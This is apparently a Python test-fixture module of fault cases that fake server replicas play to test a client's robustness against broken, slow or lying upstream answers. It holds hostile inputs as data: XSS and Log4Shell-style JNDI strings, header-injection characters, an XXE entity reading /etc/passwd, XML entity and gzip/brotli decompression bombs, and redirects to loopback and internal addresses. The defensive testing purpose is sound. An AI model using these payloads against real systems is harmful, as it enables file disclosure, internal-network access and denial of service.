"""Ways in which an answer is no answer, or a lie: each makes something else of what a replica would have said."""

import gzip
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from email.utils import format_datetime
from functools import cache, partial

from aiohttp import web

from tests.replicas.faults import Fault, play

KINDS = ("application/json", "text/xml", "text/html")
HUGE = 100_000_000
MANY = 10_000
PIECE = b" " * 65_536
ISO = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?(?:Z|[+-]\d\d:\d\d)?")
MAIL = re.compile(r"(?:\w{3}, )?\d\d \w{3} \d{4} \d\d:\d\d:\d\d (?:Z|GMT|[+-]\d{4})")
WORD = re.compile(r"[A-Za-z][a-z]+(?:[A-Z ][a-z]+)?")
HOSTILE = (
    "</script><script>alert(1)</script><img src=x onerror=alert(1)> <at>everyone</at> @channel [click](javascript:evil)"
    " \x1b[31mred\x1b]8;;https://evil.example\x07 \u202egnp.exe \u2066x \x00\x07\r\nX-Evil: 1 "
    "${jndi:ldap://evil} {{7*7}} "
) + "Ha" * 5000


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """One fault.  `spoils`: nothing that can be believed is left, so nothing may be taken for calm."""

    name: str
    play: Callable
    spoils: bool = True
    silent: bool = False  # no whole answer comes: of a door, that is a failure too
    endless: bool = False  # only a deadline ends it
    slow: bool = False
    per_test: bool = False  # `play` makes what is played: it remembers

    @property
    def spoiling(self):
        """What a replica plays."""
        return self.play() if self.per_test else self.play


def of(fault, **known):
    """A fault that every replica can play."""

    async def spoil(request, _, released):
        return await play(fault, request, released)

    return Case(name=fault.value, play=spoil, **known)


def says(name, status=200, body=b"", kind="application/json", headers=None, **known):
    """The same answer to everything."""

    async def spoil(*_):
        return web.Response(status=status, body=body, headers={"Content-Type": kind, **(headers or {})})

    return Case(name=name, play=spoil, **known)


def alters(name, change, **known):
    """The good answer with its body changed; `change` maps bytes to bytes."""

    async def spoil(request, handler, _):
        answer = await handler(request)
        if answer.status != 200 or request.method == "POST":  # a token that can't be had is another fault
            return answer
        return web.Response(status=200, body=change(answer.body), headers={"Content-Type": answer.content_type})

    return Case(name=name, play=spoil, **known)


def in_json(change):
    """Change every value of a JSON body, deepest first; other bodies are left."""

    def changed(body):
        try:
            return json.dumps(_walk(json.loads(body), change)).encode()
        except ValueError:
            return body

    return changed


def _walk(value, change):
    match value:
        case dict():
            return change({name: _walk(inner, change) for name, inner in value.items()})
        case list():
            return change([_walk(inner, change) for inner in value])
        case _:
            return change(value)


def _text(pattern, to):
    return lambda body: pattern.sub(to, body.decode()).encode()


def times(name, iso, mail=None, **known):
    """Every moment of the body written otherwise."""
    return alters(f"times {name}", lambda body: _text(MAIL, mail or iso)(_text(ISO, iso)(body)), spoils=False, **known)


def _shifted(delta):
    def shift(found):
        from datetime import datetime  # noqa: PLC0415 - one use

        try:
            return (datetime.fromisoformat(found[0]) + delta).isoformat()
        except ValueError:
            return format_datetime(
                datetime.strptime(found[0].replace("Z", "+0000"), "%a, %d %b %Y %H:%M:%S %z") + delta
            )

    return shift


def _hostile(value):
    return HOSTILE if isinstance(value, str) and " " in value else value


def _puzzling(value):
    return "MarginallyWobbly" if isinstance(value, str) and WORD.fullmatch(value) else value


def _other_type(value):
    match value:
        case bool():
            return "perhaps"
        case str():
            return len(value)
        case int() | float():
            return [str(value)]
        case list():
            return {"0": value}
        case _:
            return value


def _many(body):
    """Each outermost list as long as 10,000 entries, or as may be read at all."""
    try:
        read = json.loads(body)
    except ValueError:
        return body
    return json.dumps(_lengthened(read)).encode()


def _lengthened(value):
    match value:
        case [_, *_]:
            fits = 1_900_000 // len(json.dumps(value)) * len(value)
            return (value * (MANY // len(value) + 1))[: min(MANY, max(fits, len(value)))]
        case dict():
            return {name: _lengthened(inner) for name, inner in value.items()}
        case _:
            return value


async def _huge(request, _, released):
    answer = web.StreamResponse(headers={"Content-Type": "application/json"})
    await answer.prepare(request)
    for _ in range(HUGE // len(PIECE)):
        if request.transport is None or released.is_set():
            break
        await answer.write(PIECE)
    return answer


async def _unchanged(request, handler, _):
    """Marks its first answer, and says ever after that nothing changed."""
    if request.headers.get("If-None-Match"):
        return web.Response(status=304, headers={"ETag": '"lies"'})
    answer = await handler(request)
    answer.headers["ETag"] = '"lies"'
    return answer


def _loops():
    """Each page is the first one again, and names a next one without end."""
    first = {}

    async def spoil(request, handler, _):
        if request.path not in first:
            answer = await handler(request)
            first[request.path] = answer.status, answer.body or b"", answer.content_type
        status, body, kind = first[request.path]
        again = str(request.url)
        headers = {"Link": f'<{again}>; rel="next"', "Content-Type": kind}
        return web.Response(status=status, body=_with_next(body, again), headers=headers)

    return spoil


def _with_next(body, again):
    try:
        read = json.loads(body)
    except ValueError:
        return body
    if isinstance(read, dict):
        read |= {"@odata.nextLink": again, "cursor": "again", "after": "again", "next": again}
        for inner in ("meta", "data"):
            if isinstance(read.get(inner), dict):
                read[inner] |= {"next_token": "again", "after": "t3_again"}
    return json.dumps(read).encode()


async def _charset(request, handler, _, kind="application/json; charset=klingon"):
    answer = await handler(request)
    return web.Response(status=answer.status, body=answer.body, headers={"Content-Type": kind})


async def _portal(request, *_):
    return web.Response(status=302, headers={"Location": "http://portal.hotel.example/login"})


async def _inside(request, *_, to):
    return web.Response(status=302, headers={"Location": to})


@cache
def _bomb():
    return gzip.compress(b"[" + b" " * 64_000_000 + b"]")


ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"ha" * 50 + b'">'
    + b"".join(b'<!ENTITY %c "&%c;&%c;&%c;&%c;">' % (98 + n, *[97 + n] * 4) for n in range(20))
    + b']><rss version="2.0"><channel><title>&u;</title><item><title>&u;</title></item></channel></rss>'
)  # fmt: skip
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss><channel>&a;</channel></rss>'
)
BLOCK_PAGE = (
    b"<!DOCTYPE html><html><head><title>Just a moment...</title></head><body>window._cf_chl_opt={}</body></html>"
)
GATEWAY = b"<html><head><title>%d</title></head><body><center><h1>oops</h1></center></body></html>"
CHALLENGED = {"cf-mitigated": "challenge", "Server": "cloudflare"}

CASES = (
    of(Fault.RESET, silent=True),
    of(Fault.CUT, silent=True),
    of(Fault.HANGS, silent=True, endless=True),
    of(Fault.DRIP, silent=True, endless=True),
    Case(name="100 MB", play=_huge),
    of(Fault.BOMB),
    of(Fault.WRONG_GZIP),
    says("gzip bomb within a list", body=_bomb(), headers={"Content-Encoding": "gzip"}),
    says("brotli bomb", body=b"\x5b\xff\xff\x6f" * 900, headers={"Content-Encoding": "br"}),
    says("packed twice", body=gzip.compress(gzip.compress(b"[]")), headers={"Content-Encoding": "gzip, gzip"}),
    of(Fault.REDIRECT_LOOP),
    of(Fault.REDIRECT_AWAY),
    of(Fault.REDIRECT_INSIDE),
    *(
        Case(name=f"redirect to {to}", play=partial(_inside, to=to))
        for to in (
            "https://127.0.0.1/",
            "https://[::1]/",
            "http://10.0.0.1/",
            "https://[fe80::1]/",
            "file:///etc/passwd",
        )
    ),
    Case(name="captive portal", play=_portal),
    says("portal page", body=b"<html>Welcome to the hotel. Accept the terms of use.</html>", kind="text/html"),
    *(of(fault) for fault in (Fault.UNAUTHORIZED, Fault.FORBIDDEN, Fault.NOT_FOUND, Fault.THROTTLED)),
    *(of(fault) for fault in (Fault.THROTTLED_SECONDS, Fault.THROTTLED_DATE, Fault.CHALLENGE, Fault.CHALLENGE_429)),
    says("402", 402, b'{"title":"CreditsDepleted"}'),
    says("410", 410, b"gone", "text/plain"),
    *(
        says(f"429 {wait}", 429, b"{}", headers={"Retry-After": wait})
        for wait in (
            "-1",
            "99999999999999999999",
            "soon",
            "Tue, 99 Nov 2026 09:00:30 GMT",
            "Fri, 31 Dec 9999 23:59:59 GMT",
        )
    ),
    *(says(f"challenge {status}", status, BLOCK_PAGE, "text/html", CHALLENGED) for status in (200, 401, 403, 429, 503)),
    says("block page with 200", body=BLOCK_PAGE, kind="text/html"),
    *(says(f"{code} with HTML", code, GATEWAY % code, "text/html", silent=True) for code in (500, 502, 503, 504, 522)),
    says("204", 204),
    says("206", 206, b"[]"),
    says("304 to nothing", 304),
    of(Fault.HTML),
    of(Fault.NONSENSE),
    of(Fault.EMPTY),
    of(Fault.BROKEN_JSON),
    says("null", body=b"null"),
    says("a word", body=b'"fine"'),
    says("a number", body=b"0"),
    says("an empty object", body=b"{}"),
    says("deep lists", body=b"[" * 200_000),
    says("deep objects", body=b'{"a":' * 200_000),
    says("deep XML", body=b"<rss>" + b"<a>" * 200_000, kind="text/xml"),
    says("deep HTML", body=b"<div>" * 300_000, kind="text/html"),
    says("entity bomb", body=ENTITIES, kind="text/xml"),
    says("outside entity", body=OUTSIDE, kind="text/xml"),
    says("UTF-16", body='{"value":[]}'.encode("utf-16"), kind="application/json; charset=utf-16"),
    Case(name="charset that is none", play=_charset, spoils=False),
    Case(name="wrong content type", play=partial(_charset, kind="image/png"), spoils=False),
    alters(
        "broken UTF-8", lambda body: body[: len(body) // 2] + b"\xff\xfe\xc3" + body[len(body) // 2 :], spoils=False
    ),
    alters("cut in the middle", lambda body: body[: len(body) // 2]),
    alters("BOM", lambda body: b"\xef\xbb\xbf" + body, spoils=False),
    alters("fields null", in_json(lambda value: value if isinstance(value, dict | list) else None)),
    alters("fields of another type", in_json(_other_type)),
    alters("objects empty", in_json(lambda value: {} if isinstance(value, dict) else value)),
    alters("unknown words", in_json(_puzzling), spoils=False),
    alters("empty lists", in_json(lambda value: [] if isinstance(value, list) else value), spoils=False),
    alters("10,000 entries", _many, spoils=False, slow=True),
    alters("hostile text", in_json(_hostile), spoils=False),
    times("in the future", _shifted(timedelta(days=3650))),
    times("of another year", _shifted(timedelta(days=-3650))),
    times("without zone", lambda found: found[0].rstrip("Z").split("+")[0]),
    times("in words", "yesterday at noon"),
    times("as numbers", "1795510800"),
    times("of the year 1", "0001-01-01T00:00:00Z"),
    Case(name="paging that loops", play=_loops, per_test=True, spoils=False),
    Case(name="ETag that lies", play=_unchanged, spoils=False),
)
